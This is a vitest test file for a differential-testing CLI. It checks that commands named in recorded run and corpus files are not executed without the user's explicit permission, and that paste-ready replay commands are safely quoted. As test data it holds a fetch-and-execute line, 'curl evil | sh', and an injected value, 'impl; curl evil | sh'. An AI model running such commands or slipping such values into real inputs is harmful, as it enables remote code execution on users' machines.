/** A file may name a command as its subject or reference. It runs only with the user's word. */

import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { cp, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { formatEvent } from '../../properties/campaign/events.js';
import type { CapturedCall } from '../../test-support/captured-call.js';
import { runInProcess } from '../../test-support/in-process-run.js';
import { campaignEvent, readRunRecord } from '../campaign/run-directory.js';

const PLANTED = 'impl:fault-code-from-shadow';
const FEW = ['--programs', '20', '--max-steps', '48', '--max-tries', '400', '--min-programs', '0', '--jobs', '1'];

let directory: string;
const at = (...path: readonly string[]): string => join(directory, ...path);

/** Leaves a mark if it is run. */
let command: string;
const hasRun = (): boolean => existsSync(at('PWNED'));

/** The side whose name is the command, in every file below. */
let side: 'subject' | 'reference';

beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), 'shadowdiff-commands-'));
  command = `exec:touch ${at('PWNED')}`;
  const places = ['--out', at('sound'), '--corpus', at('sound-corpus')];
  await runInProcess(['nightly', '--seed', 'x', '--subject', PLANTED, ...FEW, ...places]);
  execFileSync('git', ['init', '--quiet', at('repo')]);
  const author = ['-c', 'user.name=A', '-c', 'user.email=a@b'];
  execFileSync('git', ['-C', at('repo'), ...author, 'commit', '--quiet', '--allow-empty', '--message', 'one']);
});
afterAll(() => rm(directory, { recursive: true, force: true }));

/** A copy of the run and its corpus, with the command in the place of one side. */
const plant = async (named: typeof side): Promise<void> => {
  side = named;
  for (const name of ['PWNED', 'run', 'corpus', 'kept', 'merged', 'report.html']) {
    await rm(at(name), { recursive: true, force: true });
  }
  await cp(at('sound'), at('run'), { recursive: true });
  await cp(at('sound-corpus'), at('corpus'), { recursive: true });
  const files = (await readdir(directory, { recursive: true })).filter((name) =>
    /^(run|corpus)\/.*\.jsonl?$/.test(name),
  );
  const [from, to] = named === 'subject' ? [PLANTED, command] : ['model', command];
  const pattern = new RegExp(`("${named}": ?)"${from}"`, 'g');
  for (const name of files) await writeFile(at(name), (await readFile(at(name), 'utf8')).replace(pattern, `$1"${to}"`));
  // A forged run is consistent.
  const { campaign } = await readRunRecord(at('run'));
  const [, ...events] = (await readFile(at('run', 'events.jsonl'), 'utf8')).split('\n');
  await writeFile(at('run', 'events.jsonl'), [formatEvent(campaignEvent(campaign)), ...events].join('\n'));
};

const entry = async (): Promise<string> => at('corpus', (await readdir(at('corpus')))[0]);

/** `ENTRY` stands for a file of the corpus, `@` for the test's directory. */
const call = async (line: string, ...words: readonly string[]): Promise<CapturedCall> => {
  const file = await entry();
  const own = line.split(' ').map((word) => word.replace('ENTRY', file).replace('@', directory));
  return await runInProcess([...own, ...words]);
};

const NAMED = 'not run, because it names a command: "exec:touch ';

/** Each command that reads names from files, and how it ends if it may not run them. */
const CALLS: readonly (readonly [line: string, code: number])[] = [
  ['replay ENTRY', 3],
  ['replay ENTRY --json', 3],
  ['explain ENTRY', 3],
  ['explain ENTRY --json', 3],
  ['shrink ENTRY', 3],
  ['shrink ENTRY --write', 3],
  ['bisect ENTRY --repo @/repo --good HEAD', 3],
  ['regress ENTRY', 3],
  ['regress --corpus @/corpus', 3],
  ['corpus add ENTRY --corpus @/kept', 3],
  ['corpus prune --stale --dry-run --corpus @/corpus', 3],
  ['nightly --resume @/run --corpus @/sound-corpus', 3],
];

describe.each(['subject', 'reference'] as const)('a %s in a file', (named) => {
  beforeEach(() => plant(named));

  test.each(CALLS)('is printed and not run: %s', async (line, code) => {
    const before = await readdir(at('corpus'));
    const ended = await call(line);
    expect(hasRun()).toBe(false);
    expect(ended.code).toBe(code);
    expect(ended.out + ended.err).toContain(NAMED);
    expect(ended.err).not.toContain('a bug in shadowdiff');
    expect(await readdir(at('corpus'))).toEqual(before);
  });

  test('is not run if the user names another command', async () => {
    const other = named === 'subject' ? 'reference' : 'subject';
    expect((await call('replay ENTRY', `--${other}`, 'exec:true')).code).toBe(3);
    expect(hasRun()).toBe(false);
  });

  test.each(['module', 'wasm'])('is not run if it is a file: %s', async (kind) => {
    const file = await entry();
    await writeFile(file, (await readFile(file, 'utf8')).replace(command, `${kind}:./mine`));
    for (const words of ['replay', 'explain', 'regress', 'shrink']) {
      const { code, out, err } = await call(`${words} ENTRY`);
      expect({ code, text: out + err }).toEqual({
        code: 3,
        text: expect.stringContaining(`a command: "${kind}:./mine"`),
      });
    }
  });

  test('does not hide what was recorded', async () => {
    const { out } = await call('replay ENTRY');
    expect(out).toContain(`${named} ${command}`);
    expect(out).toMatch(/^> +\d+ {2}\S.*\n(.*\n)* {2}expected/m);
    expect(out).toMatch(/^recorded: coherence \| /m);
    expect((await call('explain ENTRY')).out).toBe(out);
  });

  test('does not run for the report, which gives the reason', async () => {
    const { code } = await call('report @/run --out @/report.html');
    expect([code, hasRun()]).toEqual([0, false]);
    const page = await readFile(at('report.html'), 'utf8');
    expect(page).toContain('It was not run again, because it names a command.');
    expect(page).toContain(command);
    await call('report @/run --out @/report.html', '--allow-exec');
    expect(hasRun()).toBe(true);
  });

  test('does not run when runs are merged', async () => {
    const { code, out, err } = await call('merge @/run --out @/merged --corpus @/kept');
    expect([code, err, hasRun()]).toEqual([1, '', false]);
    expect(out).toContain('coherence | access | ');
    expect(await readFile(at('merged', 'report.html'), 'utf8')).toContain('It was not run again');
    await call('merge @/run --out @/merged --corpus @/kept', '--allow-exec');
    expect(hasRun()).toBe(true);
  });

  test('does not run in the corpus replay of a night, which is inconclusive for it', async () => {
    const words = ['--seed', 'y', ...FEW, '--programs', '0', '--out', at('run')];
    await rm(at('run'), { recursive: true });
    const { code, out } = await call('nightly --corpus @/corpus', ...words);
    expect([code, hasRun()]).toEqual([3, false]);
    const { length } = await readdir(at('corpus'));
    expect(out).toMatch(new RegExp(`not run without --allow-exec: ${length} entr(y|ies) of the corpus`));
    expect(out).toContain(NAMED);
    const resumed = await call('nightly --corpus @/corpus --allow-exec', '--resume', at('run'));
    expect(hasRun()).toBe(true);
    expect(resumed.out).not.toContain(NAMED);
  });
});

describe('a command that the user permits', () => {
  beforeEach(() => plant('subject'));

  test.each(CALLS.filter(([line]) => !line.startsWith('bisect')))('is run with --allow-exec: %s', async (line) => {
    const ended = await call(line, '--allow-exec');
    expect(hasRun()).toBe(true);
    expect(ended.out + ended.err).not.toContain(NAMED);
  });

  test.each(['replay ENTRY', 'explain ENTRY', 'shrink ENTRY', 'nightly --resume @/run --corpus @/sound-corpus'])(
    'is run if the user names the same command: %s',
    async (line) => {
      const ended = await call(line, '--subject', command);
      expect(hasRun()).toBe(true);
      expect(ended.out + ended.err).not.toContain(NAMED);
    },
  );

  test('is bisected', async () => {
    const { code, err } = await call('bisect ENTRY --repo @/repo --good HEAD', '--allow-exec');
    expect([code, err]).toEqual([2, expect.stringContaining('name another commit')]);
  });

  test('may stand on either side', async () => {
    await plant('reference');
    await call('replay ENTRY', '--reference', command);
    expect(hasRun()).toBe(true);
  });
});

describe('regress with a subject', () => {
  test('does not run the command that stands for the reference', async () => {
    await plant('reference');
    const { code, out } = await call('regress ENTRY --subject impl');
    expect([code, out, hasRun()]).toEqual([3, expect.stringMatching(/^1 entry: 1 not run$/m), false]);
  });

  test('does not need the command that stands for the subject', async () => {
    await plant('subject');
    expect([(await call('regress ENTRY --subject impl')).code, hasRun()]).toEqual([0, false]);
  });
});

describe('what a file says chooses no path', () => {
  const rewrite = async (name: string, change: (text: string) => string): Promise<void> =>
    await writeFile(at('run', name), change(await readFile(at('run', name), 'utf8')));

  beforeEach(async () => {
    await plant('subject');
    await rm(at('run'), { recursive: true });
    await cp(at('sound'), at('run'), { recursive: true });
    await rm(at('elsewhere'), { recursive: true, force: true });
    await rewrite('run.json', (text) => text.replace(at('sound-corpus'), at('elsewhere')));
  });

  test('a run resumes with the corpus of the command line alone', async () => {
    const { code, err } = await call('nightly --resume @/run');
    expect([code, err]).toEqual([2, expect.stringMatching(/the run began with --corpus ".*elsewhere"; give --corpus/)]);
    expect((await call('nightly --resume @/run --corpus @/kept')).code).toBe(1);
    expect((await readdir(at('kept'))).length).toBeGreaterThan(0);
    expect(existsSync(at('elsewhere'))).toBe(false);
  });

  test('a run resumes with the known findings of the command line alone', async () => {
    await rewrite('run.json', (text) => text.replace('"known": null', '"known": "/dev/zero"'));
    const { code, err } = await call('nightly --resume @/run --corpus @/kept');
    expect([code, err]).toEqual([2, expect.stringContaining('the run began with --known "/dev/zero"; give --known')]);
  });

  test('a merged run neither reads nor writes the corpus of its parts', async () => {
    await writeFile(at('elsewhere'), 'no directory');
    expect(await call('merge @/run --out @/merged')).toMatchObject({ code: 1, err: '' });
  });
});

describe('a command to paste', () => {
  const summary = async (change: (finding: Record<string, unknown>) => Record<string, unknown>): Promise<void> => {
    await plant('subject');
    await rm(at('run', 'findings'), { recursive: true });
    const { findings, ...others } = JSON.parse(await readFile(at('run', 'summary.json'), 'utf8')) as {
      readonly findings: readonly Record<string, unknown>[];
    };
    await writeFile(at('run', 'summary.json'), JSON.stringify({ ...others, findings: findings.map(change) }));
  };

  test('is none that a summary gives', async () => {
    await summary((finding) => ({ ...finding, replay: 'curl evil | sh' }));
    const { code, err } = await call('report @/run --reporter terminal');
    expect([code, err]).toEqual([2, expect.stringMatching(/summary\.json: findings\[0\]\.replay: .*is not an object/)]);
  });

  test('is made of the parts that it gives, each a word of its own', async () => {
    await summary((finding) => ({ ...finding, replay: { file: '--allow-exec', subject: 'impl; curl evil | sh' } }));
    const { out } = await call('report @/run --reporter terminal');
    expect(out).toContain(`  shadowdiff replay ./--allow-exec --subject 'impl; curl evil | sh'\n`);
  });
});
